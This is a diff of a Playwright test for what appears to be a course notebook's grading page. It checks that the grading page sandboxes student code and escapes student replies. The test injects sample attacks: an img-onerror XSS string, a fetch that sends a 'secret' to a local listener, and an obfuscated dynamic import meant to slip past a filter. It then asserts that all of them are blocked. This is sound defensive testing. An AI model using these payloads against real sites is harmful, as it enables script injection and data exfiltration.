@@ -8,11 +8,11 @@
  * grades with is the one the lessons' exercises check with.
  */
 import AxeBuilder from '@axe-core/playwright';
-import { createServer, type Server } from 'node:http';
 import { readFileSync } from 'node:fs';
 import type { Locator, Page } from '@playwright/test';
 import { exercises } from '../../src/exercises/index.ts';
 import { expect, test } from './fixtures.ts';
+import { startNetworkListener, type NetworkListener } from './network-listener.ts';
 
 // Starting sandboxes (a frame, two workers per Check) takes seconds on a loaded machine; one file's
 // code runs into the 5 s limit.
@@ -31,23 +31,13 @@ function mutate(code: string, from: string, to: string): string {
 const wrongCompact = mutate(compact, '(N * g - sumDy[h] - xhat', '(N * g - xhat');
 const forgedStage = { case: 'forged', stage: 'dx', pass: true, relError: 0, firstWrong: null, message: '' };
 
-const hits: string[] = [];
-let listener: Server;
-let listenerUrl = '';
+let listener: NetworkListener;
 
 test.beforeAll(async () => {
-  listener = createServer((req, res) => {
-    hits.push(`${req.method} ${req.url}`);
-    res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
-    res.end('export default 1;');
-  });
-  listener.on('connection', () => hits.push('tcp connection'));
-  await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
-  const address = listener.address();
-  listenerUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
+  listener = await startNetworkListener();
 });
 
-test.afterAll(() => new Promise<void>((done) => listener.close(() => done())));
+test.afterAll(() => listener.close());
 
 /** Replaces a cell's code through its editor, as a student pasting code would. */
 async function paste(page: Page, cell: Locator, code: string): Promise<void> {
@@ -125,7 +115,7 @@ function classFiles(text: string) {
   network.student = html;
   inLesson(network).exercises.find((e) => e.id === 'dbeta-uniform')!.reply = '<img src=x onerror=window.__pwned=2>';
   inLesson(network).cells.find((c) => c.key === 'bn-backward')!.code = [
-    `const L = ${JSON.stringify(listenerUrl)};`,
+    `const L = ${JSON.stringify(listener.url)};`,
     `try { fetch(L + '/fetch?secret=1').catch(() => {}); } catch {}`,
     // A plain import( is refused before the code runs; through Function it reaches the browser's policy.
     `try { new Function('u', 'return imp' + 'ort(u)')(L + '/import.js').catch(() => {}); } catch {}`,
@@ -198,7 +188,7 @@ test('the grading page re-checks every answer and code cell, refuses bad files w
 }) => {
   // The network attempts are refused by the sandbox's policy, and the browser logs them.
   problems.allow(/Content Security Policy|Refused to|Failed to load resource|net::ERR|WebSocket|\(csp\)$/);
-  await page.route(`${listenerUrl}/**`, (route) => route.continue());
+  await page.route(`${listener.url}/**`, (route) => route.continue());
   const { name, text } = await studentWork(page);
   expect(name).toMatch(/^normlab-Ada-Lovelace-/);
   const files = classFiles(text);
@@ -208,8 +198,12 @@ test('the grading page re-checks every answer and code cell, refuses bad files w
   await page.getByRole('link', { name: 'the grading page' }).click();
   await expect(page.getByRole('heading', { level: 1 })).toHaveText('Grade submissions');
   const grader = page.locator('nn-grade-submissions');
+  // The form shows once the element has bound its listeners (it renders hidden); setInputFiles does
+  // not wait for visibility, and files set earlier fired a change nobody heard (a loaded CI run).
+  const picker = page.getByLabel('Submission files');
+  await expect(picker).toBeVisible();
   // Half the files picked with the file input, the other half dropped on the drop zone.
-  await page.getByLabel('Submission files').setInputFiles([...files.loaded.slice(0, 2), ...files.refused.slice(0, 2)].map(buffer));
+  await picker.setInputFiles([...files.loaded.slice(0, 2), ...files.refused.slice(0, 2)].map(buffer));
   await expect(grader.locator('tbody tr')).toHaveCount(2);
   await expect(grader.locator('[data-refused] li')).toHaveCount(2);
   const dropped = [...files.loaded.slice(2), ...files.refused.slice(2)];
@@ -273,7 +267,7 @@ test('the grading page re-checks every answer and code cell, refuses bad files w
   expect(cell(3, col.dbeta)).toBe('fail: replied "<img src=x onerror=window.__pwned=2>"');
   expect(cell(3, col.staged)).toBe('fail: error: line 5: Error: <img src=x onerror="window.__pwned=3">');
   expect(cell(3, col.compact)).toBe('pass');
-  expect(hits).toEqual([]);
+  expect(listener.hits).toEqual([]);
   await expect(page.locator('main img, main b, main script:not([src])')).toHaveCount(0);
   expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
   await expect(grader.locator('tbody th').last()).toHaveText(files.html);
